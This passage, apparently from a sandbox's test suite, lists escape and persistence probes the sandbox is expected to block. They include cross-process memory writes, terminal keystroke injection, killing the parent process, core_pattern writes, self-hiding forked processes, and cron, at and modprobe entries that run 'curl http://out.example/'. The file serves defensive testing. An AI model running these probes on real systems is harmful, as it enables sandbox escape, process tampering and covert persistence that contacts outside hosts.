    "another program's memory, by a call": (CLOSED, f"{C}import sys\nb = ctypes.create_string_buffer(b'x', 1)\n"
        "l = (ctypes.c_ulong * 2)(ctypes.addressof(b), 1); r = (ctypes.c_ulong * 2)(MEMORY, 1)\n"
        "sys.exit(7 if libc.process_vm_writev(VICTIM, l, 1, r, 1, 0) < 0 else 0)"),
    "another program's socket": (CLOSED, calls(438, "os.pidfd_open(VICTIM)", "TAKEN", 0)),
    "a signal to another program": (CLOSED, refused("import os; os.kill(VICTIM, 18)")),
    "the end of telemock": (CLOSED, refused("import os; up = open(f'/proc/{os.getppid()}/stat').read().rpartition(')')[2]; os.kill(int(up.split()[1]), 9)")),
    "typing into the terminal": (CLOSED, refused("import fcntl; fcntl.ioctl(0, 0x5412, b'x')")),
    "the kernel's keys": (CLOSED, calls("249 if os.uname().machine == 'x86_64' else 218", "b'dns_resolver'", "b'secret.evil.example'", "b''", -4)),
    "the kernel's helpers": (CLOSED, refused("open('/proc/sys/kernel/core_pattern', 'w').close()")),
    "the kernel's helpers, by a procfs of its own": (CLOSED, "sh:unshare -rpf --mount-proc true || exit 7"),
    "the kernel's log": (CLOSED, "import os\ntry: sys.exit(7 if os.stat('/dev/kmsg').st_rdev == os.stat('/dev/null').st_rdev else 0)\nexcept FileNotFoundError: sys.exit(7)"),
    # Slowly, and not beyond the gate: else those that nobody reaps fill the table of processes.
    "a child that hops": ("descendants", "import os, time\ngate = f'/proc/{os.getppid()}/cmdline'\nif os.fork(): os._exit(0)\nos.setsid()\nwhile open(gate).read():\n  if os.fork(): os._exit(0)\n  time.sleep(0.002)"),
    "a child without a name": ("descendants", "sh:d=$(mktemp -d); ln -s $(command -v sleep) \"$d/ \"; setsid \"$d/ \" 300 >/dev/null 2>&1 & exit 0"),
    "cron": ("queues", "open('/var/spool/cron/crontabs/x', 'w').write('* * * * * curl http://out.example/\\n')"),
    "at": ("queues", "open('/var/spool/cron/atjobs/x', 'w').write('curl http://out.example/\\n')"),
    "a mail queue": ("queues", "open('/var/spool/postfix/maildrop/x', 'w').write('secret')"),
    "a rule for the kernel's modules": ("queues", "import os\nos.makedirs('/run/modprobe.d', exist_ok=True)\nopen('/run/modprobe.d/x.conf', 'w').write('install net-pf-9 curl http://out.example/\\n')"),
    "systemd's units": ("queues", "import os\nd = os.environ['HOME'] + '/.config/systemd/user'; os.makedirs(d, exist_ok=True); open(d + '/x.service', 'w').write('x')"),
}  # fmt: skip

WAYS = {
    f"{kind}: {name}": row
    for kind, rows in {
        "web": WEB, "ports": PORTS, "datagrams": DATAGRAMS, "look-ups": LOOKUPS,
        "other programs": OTHERS, "sockets": SOCKETS, "processes": PROCESSES,
    }.items()
    for name, row in rows.items()
}  # fmt: skip
